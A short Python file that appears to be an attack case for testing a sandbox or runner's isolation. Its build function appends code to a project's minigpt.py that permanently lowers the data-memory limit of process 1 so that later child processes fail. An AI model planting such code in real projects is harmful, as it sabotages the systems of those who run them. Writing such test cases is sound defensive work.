# /// attack
# tries = "lowers its parent's limit of data for good, so that the parent goes on and every later child of it fails to set its own"
# fails = []
# keeps = ["gpt.*", "matmul.*", "scan.*"]
# ///
FIRST = '''
import resource as _resource
try:
    _resource.prlimit(1, _resource.RLIMIT_DATA, (900 << 20, 900 << 20))
    print("set", _resource.prlimit(1, _resource.RLIMIT_DATA))
except (OSError, ValueError) as _error:
    print(_error)
'''
LATER = ''
from pathlib import Path


def build(home: Path) -> Path:
    for part, text in ((home / "minigpt.py", FIRST), (home / "matmul.py", LATER)):
        part.write_text(part.read_text() + text)
    return home

